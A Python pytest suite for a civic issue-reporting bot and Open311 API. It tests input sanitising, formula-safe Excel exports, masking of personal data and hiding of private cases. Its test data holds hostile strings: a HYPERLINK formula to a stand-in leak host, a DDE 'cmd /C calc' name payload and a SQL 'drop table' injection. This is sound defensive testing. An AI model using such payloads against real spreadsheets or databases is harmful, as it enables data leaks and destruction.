"""Safe in, safe out: hostile or odd text from every door (chat, Open311, console) never breaks a ledger, an XML
document or a page; what one person wrote is masked before others see it; private matters stay private."""

from __future__ import annotations

import io
import xml.etree.ElementTree as ET
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.demo_cast import COMMUNITY_GROUP, COMMUNITY_STAFF, RESIDENT, RIDER
from bot.scripted import Person, Script
from bot.web import create_web
from desk.ledgers import collect, to_bytes
from domain.kernel.text import clean
from tests.helpers import all_cases, scalar, sent_to, services, texts
from tests.test_console import signed_in
from tests.test_open311 import a_key, post

NASTY = '=HYPERLINK("http://evil.example/?leak","点我")&"\x01\x00\x1b\u0085\ufffe" 13912345678'


def test_clean_keeps_text_and_drops_only_what_breaks_stores() -> None:
    assert clean("3号楼\n\t楼道 😀 עברית é") == "3号楼\n\t楼道 😀 עברית é"
    assert clean("a\x00b\x01c\x1bd\x7fe\x85f\ufffeg\r\nh\ri") == "abcdefg\nh\ni"


@given(st.text(max_size=80))
@settings(max_examples=300)
def test_cleaned_text_is_xml_and_excel_safe(text: str) -> None:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    out = clean(text)
    assert clean(out) == out
    assert not ILLEGAL_CHARACTERS_RE.search(out)
    node = ET.Element("x")
    node.text = out
    ET.fromstring(ET.tostring(node))


async def report(s: Script, who: Person, text: str, spot: dict[str, float]) -> None:
    await s.say(who, text)
    await s.location(who, spot["lat"], spot["lon"])
    await s.press(who, "提交")


async def test_hostile_text_from_chat_and_open311_never_breaks_exports(
    district: Script, spot: dict[str, float]
) -> None:
    s = district
    hostile = Person(880124, "=cmd|' /C calc'!A0", "formula_name")  # a Telegram name that looks like a formula
    await s.say(hostile, "/start")
    await report(s, hostile, "3号楼楼道有人给电动车充电\x01\x00\x1b 13912345678", spot)
    key = await a_key(s.app)
    reply = await post(s.app, key, lat=str(spot["lat"]), long=str(spot["lon"]), description=NASTY)
    assert reply.status_code == 200, reply.text
    cases = await all_cases(s.app)
    assert len(cases) == 2 and all("\x00" not in c.description and "\x01" not in c.description for c in cases)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_web(s.app)), base_url="http://d") as http:
        xml = await http.get("/open311/v2/requests.xml")
        assert xml.status_code == 200
        ET.fromstring(xml.content)  # well-formed
        updates = await http.get("/open311/v2/servicerequestupdates.xml")
        ET.fromstring(updates.content)
    async with services(s.app) as svc:
        unit = await svc.ledgers.scope(None, "QH")
        data = await collect(svc.ledgers, unit, cases[0].created_at.strftime("%Y-%m"), ("cases", "points"))
    book = load_workbook(io.BytesIO(to_bytes(data)))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)  # never a live formula
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.quotePrefix


@pytest.mark.parametrize(
    "path",
    [
        "/console/cases?q=%00",
        "/console/cases/SB2026%00",
        "/console/cases?q=%01%1b",
        "/open311/v2/requests.json?service_request_id=%00",
        "/open311/v2/requests.json?service_code=%00",
        "/open311/v2/requests/%00.json",
        "/open311/v2/requests.xml?status=%00",
    ],
)
async def test_nul_and_controls_in_urls_are_never_a_500(district: Script, desk: str, path: str) -> None:
    s = district
    async with signed_in(s, desk, COMMUNITY_STAFF) as http:
        reply = await http.get(path)
        assert reply.status_code < 500, (path, reply.status_code, reply.text[:200])


async def test_nul_in_a_chat_command_and_a_name_is_polite(district: Script, spot: dict[str, float]) -> None:
    s = district
    await s.say(COMMUNITY_STAFF, "/urgent \x00 x", group=COMMUNITY_GROUP)
    odd = Person(880123, "王\x00\x01五", "odd_name")
    await s.say(odd, "/start")
    await report(s, odd, "路灯\x00不亮", spot)
    assert await scalar(s.app, "select count(*) from failed_updates") == 0
    [case] = await all_cases(s.app)
    assert case.description == "路灯不亮"


async def test_the_duplicate_question_masks_the_first_reporters_number(
    district: Script, spot: dict[str, float]
) -> None:
    s = district
    await report(s, RIDER, "北门路灯坏了好几天了，晚上很黑，联系电话13912345678", spot)
    await s.say(RESIDENT, "/start")
    await s.say(RESIDENT, "北门的路灯坏了")
    await s.location(RESIDENT, spot["lat"], spot["lon"])
    await s.press(RESIDENT, "提交")
    question = texts(sent_to(s.session, RESIDENT.id))[-1]
    assert "附近已有相同问题" in question and "13912345678" not in question


async def test_api_clients_earn_no_points_and_public_reads_hide_private_matters(
    district: Script, spot: dict[str, float]
) -> None:
    s = district
    key = await a_key(s.app)
    fields: dict[str, Any] = {"lat": str(spot["lat"]), "long": str(spot["lon"])}
    await post(s.app, key, service_code="neighbor_dispute", description="5号楼302与楼上因噪音争吵", **fields)
    await post(s.app, key, description="南门井盖缺失", **fields)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_web(s.app)), base_url="http://d") as http:
        public = (await http.get("/open311/v2/requests.json")).json()
        keyed = (await http.get(f"/open311/v2/requests.json?api_key={key}")).json()
    assert [r["service_code"] for r in public] == ["public_facility"]
    assert {r["service_code"] for r in keyed} == {"public_facility", "neighbor_dispute"}
    exact = next(r for r in keyed if r["service_code"] == "public_facility")
    assert (exact["lat"], exact["long"]) == (spot["lat"], spot["lon"])
    assert (public[0]["lat"], public[0]["long"]) != (spot["lat"], spot["lon"])
    assert abs(public[0]["lat"] - spot["lat"]) < 0.001 and abs(public[0]["long"] - spot["lon"]) < 0.0015
    assert await scalar(s.app, "select count(*) from points_ledger") == 0


async def test_a_login_link_is_forgotten_once_sent(district: Script) -> None:
    s = district
    await s.say(COMMUNITY_STAFF, "/console")
    link = texts(sent_to(s.session, COMMUNITY_STAFF.id))[-1]
    assert "login" in link or "工作台" in link
    rows = await scalar(s.app, "select count(*) from outbox where cast(payload as text) like '%login?t=%'")
    assert rows == 0


def hostile_texts(n: int = 40) -> list[str]:
    """Texts hypothesis finds odd: controls, surrogates, very long, formula-looking, markup-looking."""
    found: list[str] = []
    strategy = st.one_of(
        st.text(max_size=60),
        st.text(alphabet=st.characters(max_codepoint=0x20), min_size=1, max_size=20),
        st.from_regex(r"[=+\-@\t][A-Za-z(\"]{0,20}", fullmatch=True),
        st.sampled_from(["<b>", "&amp;", "%00", "\x00", "SB2026\x00", "'; drop table cases; --", "😀" * 200]),
    )

    @given(strategy)
    @settings(max_examples=n, database=None, suppress_health_check=list(HealthCheck))
    def collect_one(text: str) -> None:
        found.append(text)

    collect_one()
    return found


async def test_hostile_text_at_every_door_is_never_a_500(district: Script, desk: str, spot: dict[str, float]) -> None:
    s = district
    key = await a_key(s.app)
    texts_ = hostile_texts()
    async with signed_in(s, desk, COMMUNITY_STAFF) as http:
        for text in texts_:
            assert (await http.get("/console/cases", params={"q": text})).status_code < 500, text
            assert (await http.get(f"/console/cases/{quote(text[:30], safe='')}")).status_code < 500, text
            for fmt in ("json", "xml"):
                r = await http.get(f"/open311/v2/requests.{fmt}", params={"service_request_id": text})
                assert r.status_code < 500, text
            r = await post(s.app, key, lat=str(spot["lat"]), long=str(spot["lon"]), description=text or "x")
            assert r.status_code < 500, text
        # A multipart POST (a photo beside the fields) is a door of its own: the same text arrives uncleaned.
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_web(s.app)), base_url="http://d") as api:
            for text in texts_[:15]:
                fields = {"api_key": key, "service_code": "public_facility", "description": text or "x"}
                fields |= {"lat": str(spot["lat"]), "long": str(spot["lon"]), f"attribute[{text[:10]}]": text}
                r = await api.post(
                    "/open311/v2/requests.json",
                    data=fields,
                    files={"media": ("p.jpg", text.encode("utf-8", "surrogatepass"))},
                )
                assert r.status_code < 500, text
                r = await api.post("/open311/v2/requests.json", data=fields, files={"media": ("p.jpg", b"")})
                assert r.status_code < 500, text
    for text in texts_[:10]:
        await s.say(RIDER, text or "x")
    assert await scalar(s.app, "select count(*) from failed_updates") == 0
    month = (await all_cases(s.app))[0].created_at.strftime("%Y-%m")
    async with services(s.app) as svc:
        unit = await svc.ledgers.scope(None, "QH")
        data = await collect(svc.ledgers, unit, month, ("cases", "points"))
    book = load_workbook(io.BytesIO(to_bytes(data)))
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_web(s.app)), base_url="http://d") as http:
        ET.fromstring((await http.get("/open311/v2/requests.xml")).content)
